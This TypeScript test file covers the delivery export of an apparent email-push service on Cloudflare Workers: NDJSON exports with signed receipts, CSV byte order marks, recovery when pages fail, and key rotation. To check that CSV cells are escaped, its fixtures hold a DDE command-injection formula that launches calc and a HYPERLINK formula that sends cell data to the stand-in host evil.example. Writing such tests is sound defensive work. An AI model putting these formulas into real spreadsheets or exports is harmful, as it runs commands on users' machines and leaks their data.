import { runInDurableObject } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { createHash, createPublicKey, verify } from "node:crypto";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { app } from "../../src/http/app.ts";
import { newPushId } from "../../src/push/steering/id.ts";
import { withBrokenLine } from "../push/broken-line.ts";
import { outcome, World } from "../push/world.ts";
import { api, call, type Json, json } from "./api.ts";

const HEADERS = { authorization: `Bearer ${env.API_TOKEN}` };
const OVERLOADED = Object.assign(new Error("too many requests"), { overloaded: true });

/** A paused push in a real object; three of its deliveries have ended. */
async function pushTo(people: number, reply = "550 5.1.1 no such user"): Promise<string> {
  const id = newPushId(Date.now());
  await runInDurableObject(env.PUSH.getByName(id), (_object, state) =>
    state.storage.transactionSync(() => {
      const world = new World(state.storage, people, { id }, {}, Date.now());
      const ids = world.release();
      const failed = { ...outcome(2, "failed"), reply, class: "=cmd|' /C calc'!A0" };
      world.settle(world.claim(ids.slice(0, 3)).token, outcome(1, "sent"), failed, outcome(3, "sent"));
      world.ledger.updatePush({ status: "paused", paused_at: Date.now() });
    }),
  );
  return id;
}

/** The receipt of a file, after node:crypto alone has found it right. */
async function checkedReceipt(text: string): Promise<Json> {
  const start = text.lastIndexOf("\n", text.length - 2) + 1;
  const { payload, signature, kid } = JSON.parse(text.slice(start));
  const { keys } = await json(call("GET", "/.well-known/mailpush.json"));
  const key = createPublicKey({ key: keys.find((one: Json) => one.kid === kid), format: "jwk" });
  expect(verify(null, Buffer.from(payload, "ascii"), key, Buffer.from(signature, "base64url"))).toBe(true);
  const receipt = JSON.parse(Buffer.from(payload, "base64url").toString());
  expect(receipt.sha256).toBe(createHash("sha256").update(text.slice(0, start)).digest("hex"));
  return receipt;
}

const linesOf = (text: string): Json[] =>
  text
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line));

it("a CSV file begins with a byte order mark where one is asked for, and NDJSON never does", async () => {
  const id = await pushTo(5);
  const bytes = async (query: string) =>
    new Uint8Array(await (await api("GET", `/api/pushes/${id}/export?${query}`)).arrayBuffer());
  const [plain, marked, ndjson] = await Promise.all(
    ["format=csv", "format=csv&mark=true", "format=ndjson&mark=true"].map(bytes),
  );
  expect(marked).toEqual(new Uint8Array([0xef, 0xbb, 0xbf, ...(plain ?? [])]));
  expect(ndjson?.[0]).toBe("{".charCodeAt(0));
});

describe("an export as NDJSON", () => {
  it("has every delivery as the API shows it, and ends with a receipt of what it wrote", async () => {
    const id = await pushTo(20);
    const answer = await api("GET", `/api/pushes/${id}/export?format=ndjson`);
    expect(answer.headers.get("content-type")).toBe("application/x-ndjson");
    const text = await answer.text();
    const { data } = await json(api("GET", `/api/pushes/${id}/deliveries`));
    expect(linesOf(text).slice(0, -1)).toEqual(data);
    const receipt = await checkedReceipt(text);
    expect(receipt).toMatchObject({ push: id, status: "paused", version: expect.any(Number), count: 20 });
    expect(receipt).toMatchObject({ totals: { sent: 2, failed: 1, queued: 17, pending: 0 }, filters: { state: null } });
    expect(Date.parse(receipt.exportedAt)).toBeLessThanOrEqual(Date.now());
  });

  it("has those of one state alone, and says so", async () => {
    const id = await pushTo(20);
    const text = await (await api("GET", `/api/pushes/${id}/export?format=ndjson&state=sent`)).text();
    expect(linesOf(text).slice(0, -1)).toMatchObject([{ id: 1 }, { id: 3 }]);
    expect(await checkedReceipt(text)).toMatchObject({ count: 2, totals: { sent: 2 }, filters: { state: "sent" } });
    const none = await (await api("GET", `/api/pushes/${id}/export?format=ndjson&state=bounced`)).text();
    expect(await checkedReceipt(none)).toMatchObject({ count: 0 });
  });

  it.each([
    ["the object restarted", { method: "deliveries", calls: 1, committed: true, evict: true }],
    ["the object was aborted", { method: "deliveries", calls: 2, committed: true, abort: true }],
    ["the object was overloaded", { method: "deliveries", calls: 1, committed: false, error: OVERLOADED }],
  ])("of several pages goes on after %s: each delivery once", async (_name, line) => {
    const id = await pushTo(12_001);
    const { bindings, made } = withBrokenLine(line);
    const answer = await call("GET", `/api/pushes/${id}/export?format=ndjson`, undefined, HEADERS, bindings);
    const text = await answer.text();
    expect(
      linesOf(text)
        .slice(0, -1)
        .map((row) => row.id),
    ).toEqual(Array.from({ length: 12_001 }, (_, n) => n + 1));
    expect(await checkedReceipt(text)).toMatchObject({ count: 12_001 });
    expect(made.filter((name) => name === "deliveries").length).toBe(3 + line.calls);
  });

  it("ends without a receipt when the ledger goes away meanwhile", async () => {
    const id = await pushTo(5_001);
    const answer = await app.fetch(
      new Request(`http://mailpush.test/api/pushes/${id}/export?format=ndjson`, { headers: HEADERS }),
      env,
    );
    const reader = (answer.body as ReadableStream<Uint8Array>).getReader();
    await reader.read();
    await runInDurableObject(env.PUSH.getByName(id), (_object, state) => state.storage.deleteAll());
    await runInDurableObject(env.PUSH.getByName(id), (_object, state) => state.abort("restart")).catch(() => {});
    await expect(
      (async () => {
        while (!(await reader.read()).done);
      })(),
    ).rejects.toThrow("deleted");
  });

  it("needs a key, and names it; CSV does not", async () => {
    const id = await pushTo(3);
    const bindings = { ...env, RECEIPT_KEY: "" };
    const ask = (format: string) =>
      call("GET", `/api/pushes/${id}/export?format=${format}`, undefined, HEADERS, bindings);
    expect(await json(ask("ndjson"))).toMatchObject({ status: 503, errors: [{ path: "RECEIPT_KEY" }] });
    expect((await ask("csv")).status).toBe(200);
  });
});

describe("an export as CSV", () => {
  it("has a header and every delivery, with cells that no spreadsheet runs", async () => {
    const id = await pushTo(20, '=HYPERLINK("https://evil.example/?"&A1,"550")');
    const answer = await api("GET", `/api/pushes/${id}/export`);
    expect(answer.headers.get("content-disposition")).toBe(`attachment; filename="push-${id}.csv"`);
    const { data } = Papa.parse<Json>(await answer.text(), { header: true, skipEmptyLines: true });
    expect(data).toHaveLength(20);
    const [{ address }] = (await json(api("GET", `/api/pushes/${id}/deliveries?limit=1`))).data;
    expect(data[0]).toMatchObject({ id: "1", address, state: "sent", attempts: "1", dueAt: "" });
    expect(data[1].class).toBe("'=cmd|' /C calc'!A0");
    expect(data[1].reply).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"550")`);
  });
});

it("only exports of pushes that are there and of formats that are known", async () => {
  const id = await pushTo(3);
  expect((await api("GET", `/api/pushes/${newPushId(Date.now())}/export`)).status).toBe(404);
  expect((await api("GET", `/api/pushes/${id}/export?format=xlsx`)).status).toBe(400);
  expect((await api("GET", `/api/pushes/${id}/export?state=lost`)).status).toBe(400);
});

it("the key of an earlier receipt stays published when RECEIPT_KEY is changed", async () => {
  const text = await (await api("GET", `/api/pushes/${await pushTo(3)}/export?format=ndjson`)).text();
  const { kid } = linesOf(text).at(-1);
  const { privateKey } = (await crypto.subtle.generateKey("Ed25519", true, ["sign", "verify"])) as CryptoKeyPair;
  const pkcs8 = (await crypto.subtle.exportKey("pkcs8", privateKey)) as ArrayBuffer;
  const bindings = { ...env, RECEIPT_KEY: Buffer.from(pkcs8).toString("base64") };
  const { keys } = await json(call("GET", "/.well-known/mailpush.json", undefined, {}, bindings));
  expect(keys.map((key: Json) => key.kid).slice(1)).toEqual([kid]);
  expect(keys[0].d).toBeUndefined();
  expect(await checkedReceipt(text)).toMatchObject({ count: 3 });
});
